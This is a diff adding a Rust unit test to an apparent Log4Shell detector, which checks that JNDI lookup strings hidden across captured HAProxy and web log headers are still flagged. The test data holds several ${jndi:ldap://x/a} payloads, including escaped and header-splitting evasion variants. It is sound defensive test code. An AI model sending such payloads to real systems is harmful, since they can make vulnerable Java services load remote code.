@@ -105,6 +105,39 @@ fn every_field_is_looked_at_alone() {
     assert_eq!(found, Some(("effective/remote", "target", "ldap://x/a?b".to_owned())));
 }
 
+/// Trap: an opening that is never closed in one captured header hides the payload in the next one
+/// from who looks at all of them as one text, and not from an application that logs that header.
+#[test]
+fn captured_headers_are_looked_at_one_by_one() {
+    let haproxy = |captured: &str| {
+        let line = format!(
+            "<134>Dec 10 02:05:58 lb haproxy[312]: 192.0.2.1:40123 [10/Dec/2021:02:05:58.123] www~ \
+             app/srv1 0/0/1/12/13 200 5120 - - ---- 2/2/0/0/0 0/0 {captured} \"GET / HTTP/1.1\""
+        );
+        decode_line(&line).1.map(|it| (it.verdict.as_str(), it.field))
+    };
+    let web = |more: &str| {
+        let line = line("/", "-", "-", "-");
+        decode_line(&format!("{line} {more}")).1.map(|it| (it.verdict.as_str(), it.field))
+    };
+    let found = Some(("effective/remote", "headers"));
+    for captured in [
+        "{$#7Bx|$#7Bjndi:ldap://x/a#7D}",
+        "{a|$#7Bx} {$#7Bjndi:ldap://x/a#7D|b}",
+        "{$#7Bjndi:ldap://x/a#7D|$#7Bx}",
+    ] {
+        assert_eq!(haproxy(captured), found, "{captured}");
+    }
+    for more in [
+        "\"${x\" \"${jndi:ldap://x/a}\"",
+        "\"${x\" \"say \\\" ${jndi:ldap://x/a}\"",
+        "\"${x \\\\\" \"${jndi:ldap://x/a}\"",
+    ] {
+        assert_eq!(web(more), found, "{more}");
+    }
+    assert_eq!(haproxy("{$#7Bx|jndi:ldap://x/a}"), None);
+}
+
 #[test]
 fn hostile_lines_cost_a_bounded_amount_of_work() {
     // Just below the limit in each round, and one round more for each escape.
